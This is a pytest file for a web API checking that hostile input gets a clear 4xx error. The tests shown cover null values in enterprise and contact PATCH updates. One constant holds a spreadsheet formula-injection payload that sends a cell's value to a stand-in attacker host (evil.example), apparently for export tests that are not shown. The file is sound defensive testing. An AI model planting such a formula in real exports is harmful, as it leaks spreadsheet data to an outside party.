"""Hostile input answered with a clear 4xx in Chinese, never a 500 (issue 15): nulls in updates, control
characters and formulas in exports, visits no one could submit, wildcards in search.

Out-of-range numbers and dates: tests/server/test_bounded_input.py; the whole API fuzzed: test_schemathesis.py.
"""


import pytest

API = "/api/v1"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


# --- nulls in partial updates ------------------------------------------------------------------------------

@pytest.mark.parametrize("field", ["credit_code", "name", "street", "risk_class", "contact_phone", "dust_involved"])
def test_null_for_a_field_that_cannot_be_empty_is_422(client, world, field):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={field: None},
                            headers=world.headers("office"))
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["message"] == "请求数据不合法 / invalid request"
    assert [p["loc"] for p in error["details"]] == [["body", field]]


def test_null_clears_a_field_that_may_be_empty(client, world):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={"latitude": None, "longitude": None},
                            headers=world.headers("office"))
    assert response.status_code == 200, response.text
    assert (response.json()["latitude"], response.json()["longitude"]) == (None, None)


def test_omitted_fields_stay_as_they_are(client, world):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}", json={"street": "河海街道"},
                            headers=world.headers("office"))
    assert response.status_code == 200, response.text
    assert (response.json()["street"], response.json()["name"]) == ("河海街道", world.enterprise_a.name)


@pytest.mark.parametrize("who", ["enterprise_a", "office"])
def test_contact_update_with_a_null_phone_is_422(client, world, who):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}/contact",
                            json={"contact_name": "", "contact_phone": None}, headers=world.headers(who))
    assert response.status_code == 422, response.text
    assert [p["loc"] for p in response.json()["error"]["details"]] == [["body", "contact_phone"]]


def test_contact_update_with_empty_strings_clears_them(client, world):
    response = client.patch(f"{API}/enterprises/{world.enterprise_a.id}/contact",
                            json={"contact_name": "", "contact_phone": ""}, headers=world.headers("enterprise_a"))
    assert response.status_code == 200, response.text
    assert (response.json()["contact_name"], response.json()["contact_phone"]) == ("", "")

